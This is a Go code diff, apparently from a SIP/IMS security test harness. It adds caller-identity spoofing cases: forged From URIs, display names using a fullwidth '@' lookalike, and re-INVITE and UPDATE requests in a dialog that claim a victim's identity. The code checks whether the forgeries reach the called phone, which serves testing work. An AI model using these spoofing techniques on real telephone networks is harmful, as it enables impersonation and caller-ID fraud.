@@ -31,7 +31,8 @@ func identityFrom() Attack {
 func fromAnother(ctx context.Context, f *Field, o *Outcome) error {
 	const number = "tel:+15550109999"
 	victim := f.Users[Alice].IMPU
-	return forgeFrom(ctx, f, o, Request{From: victim}, Request{From: number}, Request{From: "sip:" + strings.TrimPrefix(number, "tel:") + "@" + f.Domain + ";user=phone"})
+	return forgeFrom(ctx, f, o, Request{From: victim}, Request{From: number}, Request{From: "sip:" + strings.TrimPrefix(number, "tel:") + "@" + f.Domain + ";user=phone"},
+		Request{From: "im:" + strings.TrimPrefix(victim, "sip:")})
 }
 
 func nameAnother(ctx context.Context, f *Field, o *Outcome) error {
@@ -42,7 +43,9 @@ func nameAnother(ctx context.Context, f *Field, o *Outcome) error {
 		}
 		return r
 	}, number)
-	return forgeFrom(ctx, f, o, Request{Display: number}, Request{Display: "0-0-1 555 01099 99"}, Request{Display: fullwidth}, Request{Display: strings.TrimPrefix(f.Users[Alice].IMPU, "sip:")})
+	address := strings.TrimPrefix(f.Users[Alice].IMPU, "sip:")
+	return forgeFrom(ctx, f, o, Request{Display: number}, Request{Display: "0-0-1 555 01099 99"}, Request{Display: fullwidth}, Request{Display: address},
+		Request{Display: strings.Replace(address, "@", "\uff20", 1)})
 }
 
 // forgeFrom sends messages with forged Froms, in turn, and looks in those that arrive for what was forged.
@@ -82,7 +85,7 @@ func forgeFrom(ctx context.Context, f *Field, o *Outcome, forgeries ...Request) 
 	return nil
 }
 
-// becomeAnother calls as who he is, and names another in a re-INVITE: a telephone that knows connected identities shows that one from then on
+// becomeAnother calls as who he is, and names another in a re-INVITE or an UPDATE: a telephone that knows connected identities shows that one from then on
 // (RFC 4916 4.4).
 func becomeAnother(ctx context.Context, f *Field, o *Outcome) error {
 	carol, mallory, err := f.carolAndMallory(ctx)
@@ -93,29 +96,31 @@ func becomeAnother(ctx context.Context, f *Field, o *Outcome) error {
 	if err != nil {
 		return err
 	}
-	const times = 3
+	const times = 4
 	shown, victim := 0, f.Users[Alice].IMPU
 	for i := range times {
 		r := inside
-		r.Method, r.CSeq, r.From, r.Body = "INVITE", inside.CSeq+uint32(i), victim, keyed(honestKey)
+		r.Method, r.CSeq, r.From, r.Body = []string{"INVITE", "UPDATE"}[i%2], inside.CSeq+uint32(i), victim, keyed(honestKey)
 		r.Lines = append(append([]string(nil), inside.Lines...), "Contact: "+mallory.Contact(), "Content-Type: application/sdp")
 		if err := mallory.Write(mallory.Text(r)); err != nil {
 			return err
 		}
-		m, err := carol.Await(ctx, func(m *sip.Message) bool { return m.IsRequest() && m.Method() == sip.INVITE && len(m.ToTag()) > 0 })
+		m, err := carol.Await(ctx, func(m *sip.Message) bool {
+			return m.IsRequest() && string(m.MethodName()) == r.Method && len(m.ToTag()) > 0
+		})
 		if err != nil {
 			return err
 		}
 		if contains(m.Get(sip.HdrFrom), victim) {
 			shown++
 		}
-		o.Arrived("%d re-INVITEs in alice's name", i+1)
+		o.Arrived("%d re-INVITEs and UPDATEs in alice's name", i+1)
 		answer, err := mallory.Await(ctx, func(m *sip.Message) bool { return isFinal(m) && string(m.Get(sip.HdrCallID)) == inside.CallID })
 		if err != nil {
 			return err
 		}
 		if answer.Status() != 200 {
-			return fmt.Errorf("attack: a re-INVITE is answered %d", answer.Status())
+			return fmt.Errorf("attack: %s in a dialog is answered %d", r.Method, answer.Status())
 		}
 	}
 	o.Users = min(shown, 1)
